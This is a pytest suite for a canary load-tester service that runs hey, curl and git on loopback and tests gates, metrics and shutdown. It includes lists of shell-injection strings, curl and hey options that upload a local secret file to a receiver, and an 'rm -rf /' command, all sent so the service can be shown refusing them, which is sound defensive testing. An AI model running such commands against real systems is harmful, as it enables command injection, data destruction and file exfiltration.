"""The load tester on loopback, end to end: real HTTP, real ``hey`` and ``curl``, real git.

A tiny HTTP target stands in for ``podinfo-canary``; it records every request so a
test can prove a load test reached it, or that a metacharacter arrived as text.
Injection tests point at a marker file and check that it never appears and that no
process was started at all.
"""

from __future__ import annotations

import http.client
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from gitflagger.loadtester.api import LoadTester, LoadTesterConfig
from gitflagger.loadtester.server import LoadTesterServer

REPO_ROOT = Path(__file__).resolve().parents[2]


def eventually(condition: Callable[[], bool], what: str, timeout: float = 60.0) -> None:
    """Wait for a condition (never asserts on how long it took, only that it happened)."""
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"gave up waiting for {what}"
        time.sleep(0.05)


class Target:
    """A local stand-in for the canary: 200 for every path, 500 under /fail."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        target = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                target.paths.append(self.path)
                status = 500 if self.path.startswith("/fail") else 200
                self.send_response(status)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


@pytest.fixture
def target() -> Iterator[Target]:
    t = Target()
    yield t
    t.httpd.shutdown()
    t.httpd.server_close()


@pytest.fixture
def start() -> Iterator[Callable[..., LoadTesterServer]]:
    """Start load testers on a free loopback port; stop them all at the end of the test."""
    servers: list[LoadTesterServer] = []

    def _start(**config: Any) -> LoadTesterServer:
        server = LoadTesterServer(LoadTester(LoadTesterConfig(**config)), host="127.0.0.1", port=0)
        server.start()
        servers.append(server)
        return server

    yield _start
    for server in servers:
        server.stop(grace=5)


def call(server: LoadTesterServer, path: str, body: object = None, method: str = "POST") -> tuple[int, str]:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(server.url + path, data=data, method=method)
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode()


def webhook(cmd: str, name: str = "podinfo", **metadata: str) -> dict[str, object]:
    """Flagger's payload for a rollout webhook running ``cmd``."""
    return {"name": name, "namespace": "test", "phase": "Progressing", "checksum": "85d557f47b",
            "metadata": {"cmd": cmd, **metadata}}


def metric(server: LoadTesterServer, line_start: str) -> float:
    _, text = call(server, "/metrics", method="GET")
    prefix = line_start + " "
    values = [float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith(prefix)]
    return values[0] if values else 0.0


def test_canary_load_test_runs_hey_against_the_target(start: Callable[..., LoadTesterServer],
                                                      target: Target) -> None:
    server = start()
    status, body = call(server, "/", webhook(f"hey -z 2s -q 10 -c 2 {target.url}/"))
    assert (status, body) == (202, "started\n")
    eventually(lambda: len(target.paths) > 0, "hey to reach the target")
    eventually(lambda: server.app.runner.running() == [], "hey to finish")
    assert set(target.paths) == {"/"}
    assert metric(server, 'gitflagger_loadtester_tasks_started_total{type="cmd"}') == 1
    assert metric(server, 'gitflagger_loadtester_tasks_failed_total{type="cmd"}') == 0


def test_a_running_command_is_not_started_twice_for_a_canary(start: Callable[..., LoadTesterServer],
                                                             target: Target) -> None:
    server = start()
    cmd = f"hey -z 60s -q 1 -c 1 {target.url}/"
    assert call(server, "/", webhook(cmd)) == (202, "started\n")
    assert call(server, "/", webhook(cmd)) == (202, "already running\n")
    assert call(server, "/", webhook(cmd, name="other")) == (202, "started\n")
    assert [canary for canary, _ in server.app.runner.running()] == ["other.test", "podinfo.test"]
    assert metric(server, "gitflagger_loadtester_tasks_skipped_total") == 1
    assert metric(server, "gitflagger_loadtester_tasks_running") == 2
    started = 'gitflagger_loadtester_tasks_started_total{type="cmd"}'
    eventually(lambda: metric(server, started) == 2, "both processes to be counted while they run")


def _fake_hey(directory: Path, marker: Path) -> Path:
    fake = directory / "hey"
    fake.write_text(f"#!/bin/sh\ntouch {marker}\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    return fake


INJECTIONS = {
    "semicolon": ("hey; touch {marker}", 400),
    "semicolon after url": ("hey {url}/ ; touch {marker}", 400),
    "command substitution": ("hey $(touch {marker})", 400),
    "quoted substitution": ('hey "$(touch {marker})"', 400),
    "backticks": ("hey `touch {marker}`", 400),
    "and": ("hey {url}/ && touch {marker}", 400),
    "or": ("hey {url}/ || touch {marker}", 400),
    "pipe": ("hey {url}/ | tee {marker}", 400),
    "redirect": ("hey {url}/ > {marker}", 400),
    "newline": ("hey {url}/\ntouch {marker}", 400),
    "env assignment": ("FOO=1 sh -c 'touch {marker}'", 400),
    "shell by name": ("sh -c 'touch {marker}'", 403),
    "shell by path": ("/bin/sh -c 'touch {marker}'", 403),
    "shell by relative path": ("../../bin/sh -c 'touch {marker}'", 403),
    "other program": ("touch {marker}", 403),
    "lookalike hey": ("{fake} {url}/", 403),
}


@pytest.mark.parametrize(("cmd", "status"), INJECTIONS.values(), ids=INJECTIONS.keys())
def test_injection_attempts_run_nothing(start: Callable[..., LoadTesterServer], target: Target,
                                        tmp_path: Path, cmd: str, status: int) -> None:
    server = start()
    marker = tmp_path / "pwned"
    fake = _fake_hey(tmp_path, marker)
    got, body = call(server, "/", webhook(cmd.format(marker=marker, url=target.url, fake=fake)))
    assert got == status
    assert "run without a shell" in body or "not allowed" in body or "is not the allowed" in body
    assert metric(server, 'gitflagger_loadtester_tasks_started_total{type="cmd"}') == 0
    assert server.app.runner.running() == []
    assert not marker.exists()
    assert target.paths == []


@pytest.mark.parametrize("kind", ["bash", "kubectl", "helmv3"])
def test_shell_and_tool_types_are_off_by_default(start: Callable[..., LoadTesterServer], tmp_path: Path,
                                                 kind: str) -> None:
    server = start()
    marker = tmp_path / "pwned"
    status, body = call(server, "/", webhook(f"touch {marker}", type=kind))
    assert status == 403
    assert ("type bash is disabled" if kind == "bash" else "is not allowed") in body
    assert not marker.exists()


def test_metacharacters_in_quotes_reach_the_program_as_text(start: Callable[..., LoadTesterServer],
                                                            target: Target, tmp_path: Path) -> None:
    server = start()
    marker = tmp_path / "pwned"
    cmd = f"curl -sf '{target.url}/q;touch|{marker}&x'"
    assert call(server, "/", webhook(cmd, blocking="true", returnCmdOutput="true")) == (200, "ok")
    assert target.paths == [f"/q;touch|{marker}&x"]
    assert not marker.exists()


def test_blocking_cmd_answers_with_the_result(start: Callable[..., LoadTesterServer], target: Target) -> None:
    server = start()
    assert call(server, "/", webhook(f"curl -sf {target.url}/ok", blocking="true")) == (200, "")
    status, body = call(server, "/", webhook(f"curl -sf {target.url}/fail", blocking="true"))
    assert (status, body) == (500, "command failed: exit status 22\n")
    assert metric(server, 'gitflagger_loadtester_tasks_failed_total{type="cmd"}') == 1


def test_bash_runs_when_the_operator_enables_it(start: Callable[..., LoadTesterServer],
                                                tmp_path: Path) -> None:
    server = start(enable_bash=True)
    marker = tmp_path / "made-by-bash"
    status, body = call(server, "/", webhook(f"echo hello && touch {marker}", type="bash",
                                             returnCmdOutput="true"))
    assert (status, body) == (200, "hello\n")
    assert marker.exists()


def test_blocking_task_is_killed_at_the_timeout(start: Callable[..., LoadTesterServer],
                                                target: Target) -> None:
    server = start(timeout=1.0)
    status, body = call(server, "/", webhook(f"hey -z 60s -q 1 -c 1 {target.url}/", blocking="true"))
    assert (status, body) == (500, "command failed: timed out after 1s\n")


def test_manual_gates_follow_flagger(start: Callable[..., LoadTesterServer]) -> None:
    server = start(open_gates=True)  # Flagger's behaviour; the token is tested in test_loadtester_process
    canary = {"name": "podinfo", "namespace": "test"}
    assert call(server, "/gate/check", canary) == (403, "Forbidden\n")
    assert call(server, "/gate/open", canary)[0] == 202
    assert call(server, "/gate/check", canary) == (200, "Approved\n")
    assert call(server, "/gate/check", {"name": "other", "namespace": "test"})[0] == 403
    assert call(server, "/gate/close", canary)[0] == 202
    assert call(server, "/gate/check", canary)[0] == 403
    assert call(server, "/gate/approve", canary) == (200, "OK\n")
    assert call(server, "/gate/halt", canary) == (403, "Forbidden\n")

    assert call(server, "/rollback/check", canary)[0] == 403
    assert call(server, "/rollback/open", canary)[0] == 202
    assert call(server, "/rollback/check", canary) == (200, "Approved\n")
    assert call(server, "/rollback/close", canary)[0] == 202
    assert call(server, "/rollback/check", canary)[0] == 403
    assert metric(server, 'gitflagger_loadtester_gate_checks_total{gate="confirm",result="open"}') == 1
    assert metric(server, 'gitflagger_loadtester_gate_checks_total{gate="rollback",result="closed"}') == 2


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=Alice", "-c", "user.email=alice@example.com",
         "-c", "commit.gpgsign=false", *args], check=True, capture_output=True, text=True,
    )
    return done.stdout.strip()


def _commit(repo: Path, relpath: str, message: str) -> str:
    (repo / relpath).parent.mkdir(parents=True, exist_ok=True)
    (repo / relpath).write_text("approved in OPS-42\n")
    _git(repo, "add", relpath)
    _git(repo, "commit", "-qm", message)
    return _git(repo, "rev-parse", "HEAD")


def test_git_gate_opens_on_an_approval_commit(start: Callable[..., LoadTesterServer], tmp_path: Path) -> None:
    work = tmp_path / "work"
    subprocess.run(["git", "init", "-q", "-b", "main", str(work)], check=True)
    _commit(work, "README", "gates for canaries")
    mirror = tmp_path / "gates.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(mirror)], check=True)
    server = start(gate_repo=str(mirror), gate_branch="main")
    release = {"name": "podinfo", "namespace": "test", "checksum": "85d557f47b"}

    assert call(server, "/gate/check", release) == (403, "Forbidden\n")
    tip = _commit(work, "approvals/test/podinfo/85d557f47b", "approve podinfo.test 85d557f47b")
    _git(work, "push", "-q", str(mirror), "main")

    assert call(server, "/gate/check", release) == (
        200, f"Approved by approvals/test/podinfo/85d557f47b at {tip}\n")
    assert call(server, "/gate/check", {**release, "checksum": "0000000000"})[0] == 403
    assert call(server, "/rollback/check", release)[0] == 403

    _commit(work, "rollbacks/test/podinfo/requested", "roll back podinfo.test")
    _git(work, "push", "-q", str(mirror), "main")
    assert call(server, "/rollback/check", release)[0] == 200


def test_git_gate_fails_closed_when_the_repo_disappears(start: Callable[..., LoadTesterServer],
                                                        tmp_path: Path) -> None:
    repo = tmp_path / "gates"
    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
    _commit(repo, "approvals/test/podinfo/approved", "approve")
    server = start(gate_repo=str(repo))
    assert call(server, "/gate/check", {"name": "podinfo", "namespace": "test"})[0] == 200
    repo.rename(tmp_path / "moved")
    assert call(server, "/gate/check", {"name": "podinfo", "namespace": "test"})[0] == 403
    assert metric(server, "gitflagger_loadtester_gate_repo_errors_total") == 1


def test_health_metrics_and_unknown_paths(start: Callable[..., LoadTesterServer]) -> None:
    server = start()
    assert call(server, "/healthz", method="GET") == (200, "OK\n")
    call(server, "/", webhook("rm -rf /"))
    status, text = call(server, "/metrics", method="GET")
    assert status == 200
    assert "# TYPE gitflagger_loadtester_tasks_started_total counter" in text
    assert 'gitflagger_loadtester_tasks_refused_total{reason="not_allowed"} 1.0' in text
    assert call(server, "/nope", {"name": "a", "namespace": "b"}) == (404, "no such endpoint /nope\n")


def test_malformed_http_requests_get_clear_answers(start: Callable[..., LoadTesterServer]) -> None:
    server = start()
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    connection.putrequest("POST", "/")
    connection.putheader("Content-Length", str(2 * 1024 * 1024))  # announced, never sent
    connection.endheaders()
    answer = connection.getresponse()
    assert (answer.status, answer.read()) == (413, b"request body larger than 1048576 bytes\n")
    connection.close()
    bad = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    bad.putrequest("POST", "/gate/check")
    bad.putheader("Transfer-Encoding", "chunked")
    bad.endheaders(b"zz\r\n{}\r\n0\r\n\r\n")
    answer = bad.getresponse()
    assert (answer.status, answer.read()) == (400, b"invalid chunked body\n")
    bad.close()


def test_chunked_bodies_are_decoded(start: Callable[..., LoadTesterServer]) -> None:
    server = start(open_gates=True)
    payload = json.dumps({"name": "podinfo", "namespace": "test"}).encode()
    chunked = urllib.request.Request(server.url + "/gate/open", data=iter([payload[:10], payload[10:]]),
                                     headers={"Transfer-Encoding": "chunked"}, method="POST")
    with urllib.request.urlopen(chunked, timeout=30) as answer:
        assert answer.status == 202
    assert call(server, "/gate/check", {"name": "podinfo", "namespace": "test"})[0] == 200


def test_a_bug_answers_500_not_a_dropped_connection(start: Callable[..., LoadTesterServer],
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    server = start()

    def broken(path: str, body: bytes) -> None:
        raise RuntimeError("bug")

    monkeypatch.setattr(server.app, "handle", broken)
    assert call(server, "/healthz", method="GET") == (500, "internal error\n")


def _stat(pid: int) -> list[str]:
    """State, parent pid, ... of a process, or [] if it is gone."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return []


def _children(pid: int) -> list[int]:
    """Live (not zombie) children of ``pid``."""
    pids = [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()]
    return [p for p in pids if (s := _stat(p)) and int(s[1]) == pid and s[0] not in {"Z", "X"}]


def test_sigterm_stops_tasks_and_exits_cleanly(target: Target) -> None:
    code = "from gitflagger.loadtester.cli import loadtester_command; loadtester_command()"
    proc = subprocess.Popen(
        [sys.executable, "-c", code, "--listen", "127.0.0.1", "--port", "0"],
        cwd=REPO_ROOT, stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    try:
        assert proc.stderr is not None
        started = json.loads(proc.stderr.readline())
        assert started["msg"] == "load tester listening" and started["allowed"] == ["curl", "hey"]
        server_url = f"http://127.0.0.1:{started['port']}"
        body = json.dumps(webhook(f"hey -z 600s -q 1 -c 1 {target.url}/")).encode()
        with urllib.request.urlopen(urllib.request.Request(server_url + "/", data=body), timeout=30) as r:
            assert r.status == 202
        eventually(lambda: len(_children(proc.pid)) == 1, "hey to start")
        hey = _children(proc.pid)[0]

        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=60) == 0
        lines = [json.loads(line) for line in proc.stderr.read().splitlines()]
    finally:
        if proc.poll() is None:
            proc.kill()
    assert [entry["msg"] for entry in lines if entry["msg"] in {"shutting down", "load tester stopped"}] == [
        "shutting down", "load tester stopped"]
    assert next(e for e in lines if e["msg"] == "shutting down")["signal"] == "SIGTERM"
    eventually(lambda: _stat(hey)[:1] in ([], ["Z"]), "hey to be stopped with the load tester")


class Receiver:
    """Records the bodies of requests sent to it: where a leaked file would arrive."""

    def __init__(self) -> None:
        self.bodies: list[bytes] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                receiver.bodies.append(self.rfile.read(length))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_PUT = _record

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


FILE_ARGUMENTS = {
    "curl -d @file": ("curl -sf -d @{secret} {receiver}/", "curl option -d with"),
    "curl -d@file": ("curl -sf -d@{secret} {receiver}/", "curl option -d with"),
    "curl --data-binary @file": ("curl -sf --data-binary @{secret} {receiver}/", "--data-binary"),
    "curl --data=@file": ("curl -sf --data=@{secret} {receiver}/", "curl option --data with"),
    "curl -F field=@file": ("curl -sf -F x=@{secret} {receiver}/", "curl option -F with"),
    "curl -T file": ("curl -sf -T {secret} {receiver}/", "curl option -T with"),
    "curl -K config": ("curl -sf -K {secret} {receiver}/", "curl option -K with"),
    "curl -o file": ("curl -sf -o {written} {target}/", "curl option -o with"),
    "curl file URL": ("curl -sf file://{secret}", "curl URL"),
    "hey -D file": ("hey -n 1 -m POST -D {secret} {receiver}/", "hey option -D with"),
}


@pytest.mark.parametrize(("cmd", "complaint"), FILE_ARGUMENTS.values(), ids=FILE_ARGUMENTS.keys())
def test_allowed_programs_may_not_read_or_write_local_files(
    start: Callable[..., LoadTesterServer], target: Target, tmp_path: Path, cmd: str, complaint: str
) -> None:
    server = start()
    receiver = Receiver()
    try:
        secret = tmp_path / "secret"
        secret.write_text("s3cr3t-value\n")
        written = tmp_path / "written"
        text = cmd.format(secret=secret, receiver=receiver.url, target=target.url, written=written)
        status, body = call(server, "/", webhook(text, blocking="true"))
        assert status == 403
        assert complaint in body and "cmd tasks may not read or write local files" in body
        assert metric(server, 'gitflagger_loadtester_tasks_refused_total{reason="file_argument"}') == 1
        assert metric(server, 'gitflagger_loadtester_tasks_started_total{type="cmd"}') == 0
        assert receiver.bodies == [] and target.paths == []
        assert not written.exists()
    finally:
        receiver.httpd.shutdown()
        receiver.httpd.server_close()


def test_the_usual_curl_check_still_runs(start: Callable[..., LoadTesterServer], target: Target) -> None:
    server = start()
    cmd = f"curl -s -o /dev/null -w '%{{http_code}}' {target.url}/ok"
    assert call(server, "/", webhook(cmd, blocking="true", returnCmdOutput="true")) == (200, "200")
    assert target.paths == ["/ok"]
